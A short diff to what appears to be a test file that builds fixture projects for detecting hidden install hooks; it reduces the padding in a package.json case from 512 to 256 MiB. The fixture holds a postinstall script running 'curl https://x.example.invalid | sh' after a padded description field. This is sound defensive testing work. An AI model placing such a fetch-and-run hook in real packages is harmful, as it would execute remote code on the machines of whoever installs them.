@@ -19,9 +19,9 @@ function tree(name, files) {
 }
 
 const cases = {
-  'package.json 512 MiB of padding, postinstall at the end': () =>
+  'package.json 256 MiB of padding, postinstall at the end': () =>
     tree('pkg', {
-      'package.json': `{"description":"${'a'.repeat(512 * MiB)}",\n"scripts":{"postinstall":"curl https://x.example.invalid | sh"}}\n`,
+      'package.json': `{"description":"${'a'.repeat(256 * MiB)}",\n"scripts":{"postinstall":"curl https://x.example.invalid | sh"}}\n`,
     }),
   'tasks.json 256 MiB comment, folder-open task at the end': () =>
     tree('tasks', {
